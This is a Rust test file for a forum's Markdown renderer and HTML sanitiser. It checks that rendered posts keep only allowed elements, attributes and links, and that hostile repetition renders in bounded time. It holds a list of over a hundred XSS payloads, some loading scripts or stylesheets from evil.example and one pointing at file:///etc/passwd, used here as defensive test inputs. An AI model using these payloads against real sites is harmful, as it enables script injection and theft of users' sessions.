//! What hostile writing tries, and what must come of it.

use std::time::{Duration, Instant};

use proptest::prelude::*;
use scraper::{Html, Node};

use super::*;

fn options() -> RenderOptions {
    RenderOptions {
        post_prefix: "p123".to_owned(),
        base_url: "https://forum.example.org".to_owned(),
        known: vec!["ruth".to_owned(), "shark".to_owned()],
    }
}

fn html(source: &str) -> String {
    render(source, &options()).html
}

/// Own vectors, one per trick: tags, handlers, schemes hidden in many ways, broken nesting, foreign namespaces,
/// comments, entities, Markdown's own doors.
const TRICKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script\n>alert(1)</script\t>",
    "<<script>alert(1);//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)//",
    "<img src=\"x\" onerror=\"alert(1)\"",
    "<img src=`x` onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a></svg>",
    "<svg><set attributeName=onmouseover to=alert(1)></svg>",
    "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<select><template><style><!--</style><a rel=\"--></style></template></select><img id=x src onerror=alert(1)>\">",
    "<style>@import 'javascript:alert(1)';</style>",
    "<style><!--</style><script>alert(1)//--></script>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<p style=\"x:expression(alert(1))\">x</p>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<body onload=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<isindex action=javascript:alert(1) type=image>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<textarea><script>alert(1)</script></textarea><img src=x onerror=alert(1)>",
    "<title><img src=x onerror=alert(1)></title>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><script>alert(1)</script>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "<p id=admin name=csrf class=modal onclick=alert(1) data-x=1>x</p>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\\<script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x]( &#1;javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://forum.example.org/1)",
    "[x](view-source:javascript:alert(1))",
    "[x](https://a.example/\" onmouseover=\"alert(1))",
    "[x](https://a.example 'title\" onmouseover=alert(1) x=\"')",
    "[x](https://a.example \"\\\" onmouseover=alert(1) \")",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<javascript&colon;alert(1)>",
    "<data:text/html,x>",
    "<https://a.example/\"onmouseover=alert(1)>",
    "<mailto:a@b.example\"onmouseover=alert(1)>",
    "https://a.example/<script>alert(1)</script>",
    "www.a.example\"onmouseover=alert(1)//",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![\" onerror=\"alert(1)](https://evil.example/x.png)",
    "![x](/media/1/a.png\"onerror=\"alert(1))",
    "![x](/media/1/a.png \"\\\" onerror=\\\"alert(1)\")",
    "![x](/media/../t/1?delete)",
    "![x](//evil.example/media/1/a.png)",
    "![x](https://forum.example.org.evil.example/media/1/a.png)",
    "![x](https://forum.example.org@evil.example/media/1/a.png)",
    "[![x](https://evil.example/a.png)](javascript:alert(1))",
    "[a [b](javascript:alert(1)) c](https://a.example)",
    "```\"><script>alert(1)</script>\nx\n```",
    "```x\" onmouseover=\"alert(1)\nx\n```",
    "`<script>alert(1)</script>`",
    "|<script>|b|\n|-|-|\n|<img src=x onerror=alert(1)>|[x](javascript:alert(1))|",
    "x[^<script>]\n\n[^<script>]: <script>alert(1)</script>",
    "x[^\"onmouseover=alert(1)]\n\n[^\"onmouseover=alert(1)]: y",
    "- [x] <script>alert(1)</script>\n- [<] y",
    "# <img src=x onerror=alert(1)> {#admin .modal onclick=alert(1)}",
    "> <script>alert(1)\n> </script>",
    "<a\u{0}href=javascript:alert(1)>x</a>",
    "<img src=x onerror\u{0b}=alert(1)>",
    "\u{feff}<script>alert(1)</script>",
    "<\u{200b}script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
];

const ELEMENTS: &[&str] = &[
    "p",
    "br",
    "hr",
    "h3",
    "h4",
    "h5",
    "h6",
    "strong",
    "em",
    "del",
    "a",
    "img",
    "code",
    "pre",
    "blockquote",
    "ul",
    "ol",
    "li",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "sup",
    "section",
    "div",
    "details",
    "summary",
    "span",
];
const ATTRIBUTES: &[&str] = &[
    "href",
    "title",
    "id",
    "class",
    "aria-label",
    "src",
    "alt",
    "loading",
    "start",
    "align",
    "rel",
    "open",
    "tabindex",
];

/// What is wrong with a piece of HTML as a browser would read it; nothing, one hopes.
fn faults(html: &str) -> Vec<String> {
    let mut faults = Vec::new();
    for node in Html::parse_fragment(html).tree.nodes() {
        match node.value() {
            // The reader's own frame; written content cannot hold either.
            Node::Element(element)
                if matches!(element.name(), "html" | "body")
                    && element.attrs().next().is_none() => {}
            Node::Element(element) => {
                if !ELEMENTS.contains(&element.name()) {
                    faults.push(format!("element {}", element.name()));
                }
                for (name, value) in element.attrs() {
                    if !ATTRIBUTES.contains(&name) {
                        faults.push(format!("attribute {name}"));
                    }
                    let link = value
                        .chars()
                        .filter(|c| !c.is_control() && !c.is_whitespace())
                        .collect::<String>()
                        .to_lowercase();
                    let web = ["http:", "https:", "mailto:"]
                        .iter()
                        .any(|scheme| link.starts_with(scheme));
                    if name == "href"
                        && !web
                        && link
                            .split(['/', '?', '#'])
                            .next()
                            .is_some_and(|head| head.contains(':'))
                    {
                        faults.push(format!("link {value}"));
                    }
                    if name == "src" && !value.starts_with("/media/") {
                        faults.push(format!("image {value}"));
                    }
                    if name == "id" && !value.starts_with("fn-") {
                        faults.push(format!("id {value}"));
                    }
                }
                if element.name() == "a" && element.attr("rel") != Some("nofollow noopener ugc") {
                    faults.push("a link without rel".to_owned());
                }
            }
            Node::Comment(_) | Node::Doctype(_) | Node::ProcessingInstruction(_) => {
                faults.push("not content".to_owned())
            }
            _ => {}
        }
    }
    faults
}

fn assert_safe(source: &str) {
    let told = html(source);
    assert_eq!(faults(&told), [""; 0], "{source:?} became {told:?}");
    assert_eq!(clean(&told), told, "{source:?} is not settled");
    let read_again = Html::parse_fragment(&told).root_element().inner_html();
    assert_eq!(
        faults(&read_again),
        [""; 0],
        "{source:?} changes when read again"
    );
}

#[test]
fn the_oracle_sees_what_is_wrong() {
    for bad in [
        "<script>x</script>",
        "<p onclick=x>y</p>",
        "<a href=javascript:x rel='nofollow noopener ugc'>y</a>",
        "<a href=/x>y</a>",
        "<img src=//x>",
        "<p id=x>y</p>",
        "<!-- x -->",
        "<svg></svg>",
    ] {
        assert!(!faults(bad).is_empty(), "{bad}");
    }
}

#[test]
fn no_trick_leaves_anything_that_runs_or_loads() {
    for trick in TRICKS {
        assert_safe(trick);
        assert_safe(&format!("Hello **{trick}** there"));
        assert_safe(&format!(
            "> quoted\n>\n> {trick}\n\n- item\n\n      {trick}\n"
        ));
        // The allow-list alone must hold, too, whatever is fed to it.
        let cleaned = clean(trick);
        assert_eq!(
            faults(&cleaned),
            [""; 0],
            "cleaned {trick:?} to {cleaned:?}"
        );
        assert_eq!(clean(&cleaned), cleaned, "{trick:?}");
    }
}

#[test]
fn raw_html_is_shown_as_it_was_typed() {
    assert_eq!(
        html("a <b>bold</b> word"),
        "<p>a &lt;b&gt;bold&lt;/b&gt; word</p>\n"
    );
    assert_eq!(
        html("<div>\n  *x*\n</div>"),
        "<p>&lt;div&gt;<br>\n  *x*<br>\n&lt;/div&gt;</p>\n"
    );
    assert_eq!(
        render("a <b>bold</b> word", &options()).text,
        "a <b>bold</b> word"
    );
}

#[test]
fn markdown_is_markdown() {
    for (source, told) in [
        (
            "# A\n## B\n###### C",
            "<h3>A</h3>\n<h4>B</h4>\n<h5>C</h5>\n",
        ),
        ("one\ntwo", "<p>one<br>\ntwo</p>\n"),
        (
            "*a* **b** ~~c~~ `d`",
            "<p><em>a</em> <strong>b</strong> <del>c</del> <code>d</code></p>\n",
        ),
        (
            "3. x\n4. y",
            "<ol start=\"3\">\n<li>x</li>\n<li>y</li>\n</ol>\n",
        ),
        (
            "- [x] done\n- [ ] open",
            "<ul>\n<li class=\"task-list-item\">☑ done</li>\n<li class=\"task-list-item\">☐ open</li>\n</ul>\n",
        ),
        (
            "```rust\nlet a = 1 < 2;\n```",
            "<pre><code class=\"language-rust\"><span class=\"hl-k\">let</span> a = <span class=\"hl-n\">1</span> &lt; <span class=\"hl-n\">2</span>;\n</code></pre>\n",
        ),
        (
            "```klingon\na < b\n```",
            "<pre><code class=\"language-klingon\">a &lt; b\n</code></pre>\n",
        ),
        (
            "the ||butler|| did a || b",
            "<p>the <span class=\"spoiler\" tabindex=\"0\">butler</span> did a || b</p>\n",
        ),
        (
            "> [!WARNING]\n> Wet *paint*",
            "<div class=\"callout callout-warning\">\n<p class=\"callout-title\">Warning</p>\n<p>Wet <em>paint</em></p>\n</div>\n",
        ),
        (
            "> [!spoiler] The *end*\n> It was him.",
            "<details class=\"callout callout-spoiler\">\n<summary>The <em>end</em></summary>\n<p>It was him.</p>\n</details>\n",
        ),
        (
            "> [!note]+\n> Open",
            "<details class=\"callout callout-note\" open=\"\">\n<summary>Note</summary>\n<p>Open</p>\n</details>\n",
        ),
        (
            "[x](/t/a/1 \"T\")",
            "<p><a href=\"/t/a/1\" title=\"T\" rel=\"nofollow noopener ugc\">x</a></p>\n",
        ),
        (
            "www.a.example",
            "<p><a href=\"http://www.a.example\" rel=\"nofollow noopener ugc\">www.a.example</a></p>\n",
        ),
        ("[x](javascript:alert(1))", "<p>x</p>\n"),
    ] {
        assert_eq!(html(source), told, "{source:?}");
    }
    let table = html("| a | b |\n|:--|--:|\n| 1 | 2 |");
    assert!(
        table.contains("<th align=\"left\">a</th>") && table.contains("<td align=\"right\">2</td>"),
        "{table}"
    );
}

#[test]
fn only_our_own_images_are_loaded() {
    assert_eq!(
        html("![a cat](https://forum.example.org/media/12/cat-Ab_9.jpg)"),
        "<p><img src=\"/media/12/cat-Ab_9.jpg\" alt=\"a cat\" loading=\"lazy\"></p>\n"
    );
    assert_eq!(
        html("![a cat](https://evil.example/cat.jpg)"),
        "<p><a href=\"https://evil.example/cat.jpg\" rel=\"nofollow noopener ugc\">a cat</a></p>\n"
    );
    assert_eq!(
        html("![](https://evil.example/cat.jpg)"),
        "<p><a href=\"https://evil.example/cat.jpg\" rel=\"nofollow noopener ugc\">https://evil.example/cat.jpg</a></p>\n"
    );
    assert_eq!(
        html("[![a cat](https://evil.example/cat.jpg)](/t/a/1)"),
        "<p><a href=\"/t/a/1\" rel=\"nofollow noopener ugc\">a cat</a></p>\n"
    );
}

#[test]
fn marks_in_code_end_and_the_code_does_not() {
    let told = render(&format!("```c\n{}\n```", "1 ".repeat(20_000)), &options());
    assert_eq!(told.html.matches("<span").count(), 6_000);
    assert_eq!(told.text.matches('1').count(), 20_000);
}

/// What the brief of hostile writing names by number: refused at once where it stands in one line, flat and quick where
/// it is spread over many.
#[test]
#[expect(clippy::disallowed_methods, reason = "time itself is what is measured")]
fn a_hundred_thousand_nested_quotes_cost_little() {
    for wall in [">".repeat(100_000), "> ".repeat(100_000)] {
        let start = Instant::now();
        assert!(check_source(&wall, 1 << 20).is_err());
        assert!(start.elapsed() < Duration::from_secs(1));
    }
    let stairs: String = (1..=360)
        .map(|n| format!("{} a\n", ">".repeat(n.min(32))))
        .collect();
    let start = Instant::now();
    let told = html(&stairs.repeat(5));
    assert!(start.elapsed() < Duration::from_secs(8));
    assert!(told.matches("<blockquote>").count() < 30 * 10);
}

#[test]
fn footnotes_of_two_posts_do_not_meet() {
    let source = "One[^a] two[^b] again[^a].\n\n[^b]: Second note.\n[^a]: First note.";
    let one = render(source, &options());
    let two = render(
        source,
        &RenderOptions {
            post_prefix: "p124".to_owned(),
            ..options()
        },
    );
    assert_eq!(faults(&one.html), [""; 0]);
    for wanted in [
        "<a href=\"#fn-p123-1\" id=\"fn-ref-p123-1\"",
        "id=\"fn-ref-p123-1-2\"",
        "<li id=\"fn-p123-1\">",
        "<li id=\"fn-p123-2\">",
        "href=\"#fn-ref-p123-1-2\"",
        "<section class=\"footnotes\">",
    ] {
        assert!(one.html.contains(wanted), "{wanted} in {}", one.html);
        assert!(
            !two.html.contains(wanted) || wanted.starts_with("<section"),
            "{wanted}"
        );
    }
    assert_eq!(one.text, "One two again.\nFirst note.\nSecond note.");
}

#[test]
fn own_words_leave_quotations_out() {
    let told = html("> their words\n\nMine.\n\n- > theirs again\n- and mine");
    assert_eq!(own_words(&told), "Mine.\nand mine");
    assert_eq!(
        plain_text(&told),
        "their words\nMine.\ntheirs again\nand mine"
    );
}

#[test]
fn depth_is_flattened_and_words_stay() {
    let told = render(&format!("{}deep", "> ".repeat(200)), &options());
    assert!(told.html.matches("<blockquote>").count() <= 24);
    assert_eq!(told.text, "deep");
    let told = render(&format!("{}deep", "- ".repeat(60)), &options());
    assert!(told.html.matches("<ul>").count() <= 24);
    assert_eq!(told.text, "deep");
    let told = render(&format!("{}deep", "*a **b ".repeat(200)), &options());
    assert!(told.text.ends_with("deep"));
}

/// Writing whose cost grows faster than its length in a careless parser.
#[test]
#[expect(clippy::disallowed_methods, reason = "time itself is what is measured")]
#[expect(clippy::too_many_lines, reason = "one list, read from top to bottom")]
fn hostile_repetition_costs_no_more_than_its_length() {
    let limit = 8_192;
    let fill = |piece: &str| piece.repeat(limit / piece.len());
    let pieces = [
        ">",
        "> ",
        "[",
        "]",
        "![",
        "[a](",
        "[a](b",
        "*",
        "**a ",
        "*a **a ",
        "_a __a ",
        "~~a ",
        "`",
        "`a``",
        "<",
        "<a ",
        "</",
        "<!--",
        "<?",
        "<![CDATA[",
        "&",
        "&#",
        "&amp",
        "|",
        "|a",
        "|-|\n",
        "- ",
        "* ",
        "1. ",
        "-\n",
        "# ",
        "#",
        "\\",
        "[^1]",
        "[^1]: a\n",
        "[a]: b\n",
        "[a][",
        "[a]",
        "http://",
        "http://a.b/(",
        "www.a.b/&amp;",
        "a@",
        "a@b.c ",
        "://",
        "\t",
        "    a\n",
        "a\n\n",
        "\n",
        "***",
        "---\n",
        "===\na",
        "\"",
        "'",
        "(",
        ")",
        "é",
        "\u{301}",
        "😀",
        "x",
        "> - ",
        "- [x] ",
        "```\n",
        "~~~",
        "<div>\n",
        "<b>",
        "a **b",
        "*a_",
        "[x](<",
        "[x]: <",
        "![a](b \"",
        "![[]()",
        "[[]()",
        "||",
        "||a ",
        "||a||",
        "> [!note]\n",
        "> [!spoiler]- a\n> b\n\n",
        "> [!<script>] a\n",
        "```c\n1\n```\n",
        "~~~py\n'\n",
    ];
    for piece in pieces {
        let sources = [
            fill(piece),
            format!("a | b\n- | -\n{}", fill(piece)),
            format!(
                "{}{}",
                fill(piece).get(..4_000).unwrap_or("x"),
                "]".repeat(4_000)
            ),
        ];
        for source in sources {
            let start = Instant::now();
            let told = render(&source, &options());
            let took = start.elapsed();
            // Generous, because tests are not optimised and share the machine; what grows too fast still shows.
            assert!(took < Duration::from_secs(4), "{piece:?} took {took:?}");
            assert!(
                told.html.len() < 60 * source.len(),
                "{piece:?} grew to {}",
                told.html.len()
            );
        }
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(300))]

    #[test]
    fn any_writing_becomes_safe_and_settled(pieces in prop::collection::vec(prop_oneof![
        prop::sample::select(TRICKS).prop_map(str::to_owned),
        "[ -~]{0,12}",
        any::<String>().prop_map(|s| s.chars().take(12).collect()),
        prop::sample::select(&["\n", "\n\n", "> ", "- ", "1. ", "    ", "```\n", "|", "|-|-|\n", "*", "**", "_", "[", "](", ")", "`", "<", ">", "[^1]", "[^1]: ", "||", "> [!note]", "> [!spoiler] ", "```rs\n", "~~~html\n", "'", "\"", "/*"][..]).prop_map(str::to_owned),
    ], 0..14)) {
        let source = pieces.concat();
        let told = render(&source, &options());
        prop_assert_eq!(faults(&told.html), [""; 0], "{:?}", told.html);
        prop_assert_eq!(clean(&told.html), told.html.clone());
        prop_assert_eq!(clean(&clean(&source)), clean(&source));
        // The plain text is in its normal form, line by line, and its sentences can be taken out again.
        for line in told.text.split('\n') {
            prop_assert_eq!(excerpt::normalise(line), line);
        }
        for sentence in sentences(&told.text) {
            prop_assert!(told.text.get(sentence).is_some());
        }
        let own = own_words(&told.html);
        prop_assert!(own.lines().all(|line| told.text.contains(line)));
    }
}
